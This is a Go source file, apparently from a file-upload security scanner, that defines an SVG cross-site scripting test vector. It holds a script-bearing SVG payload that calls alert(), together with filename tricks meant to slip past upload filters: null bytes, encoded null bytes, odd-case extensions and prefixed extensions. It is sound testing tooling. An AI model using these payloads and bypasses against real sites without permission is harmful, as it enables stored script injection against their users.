package vectors

import (
	"github.com/pyneda/upload-scanner/db"
	"github.com/pyneda/upload-scanner/pkg/fileupload/matcher"
)

const (
	SVGVectorName   = "svg"
	svgBaseFileName = "SVGFileUpload_XSS_"
	svgPayload      = "<svg version=\"1.1\" baseProfile=\"full\" xmlns=\"http://www.w3.org/2000/svg\">\n" +
		"<script type=\"text/javascript\">\n" +
		"alert(\"SVGFileUpload_XSS_Testing\");\n" +
		"</script>\n" +
		"</svg>"
)

func svgDefaultParameters() []parameter {
	return []parameter{
		onlyProvided("svg", ""),
		onlyProvided("xml", ""),
		onlyProvided("svgz", ""),
		onlyProvided("svg", ContentTypeSVG),
		onlyProvided("xml", ContentTypeXML),
		onlyProvided("svgz", ContentTypeSVG),
		prefixOriginal("svg", ""),
		prefixOriginal("xml", ""),
		prefixOriginal("svgz", ""),
		withNullByte("svg", ""),
		withNullByte("svg", ContentTypeSVG),
		withEncodedNullByte("svg", ""),
		withEncodedNullByte("svg", ContentTypeSVG),
	}
}

func svgExtendedParameters() []parameter {
	svgVariants := []string{"Svg", "SvG", "SVG", "Svgz", "SvGz", "SVGZ"}
	xmlVariants := []string{"xML", "Xml", "XML"}

	var parameters []parameter
	parameters = append(parameters, eachExtension(svgVariants, "", onlyProvided)...)
	parameters = append(parameters, eachExtension(xmlVariants, "", onlyProvided)...)
	parameters = append(parameters, eachExtension(svgVariants, ContentTypeSVG, onlyProvided)...)
	parameters = append(parameters, eachExtension(xmlVariants, ContentTypeXML, onlyProvided)...)
	parameters = append(parameters, eachExtension([]string{"Svg", "SVG", "Svgz", "SVGZ"}, ContentTypeSVG, prefixOriginal)...)
	parameters = append(parameters, eachExtension([]string{"xML", "XML"}, ContentTypeXML, prefixOriginal)...)
	return parameters
}

// svgPrecondition widens the XSS check to the generic XML types the xml
// mutations are usually served as.
var svgPrecondition = matcher.All(matcher.ContentDispositionInline, matcher.SVGScriptExecutable)

// NewSVGVector uploads a script bearing SVG image and expects it back byte
// for byte, served inline as a script capable document.
func NewSVGVector() *Vector {
	payload := Payload{Name: "svg image with script", Content: []byte(svgPayload)}
	return &Vector{
		Name:           SVGVectorName,
		Classification: db.FileUploadXssSvgCode,
		Rounds: defaultAndExtended(payload,
			build(svgBaseFileName, svgDefaultParameters()...),
			build(svgBaseFileName, svgExtendedParameters()...),
		),
		Matcher: matcher.NewHash(svgPayload, svgPrecondition),
	}
}
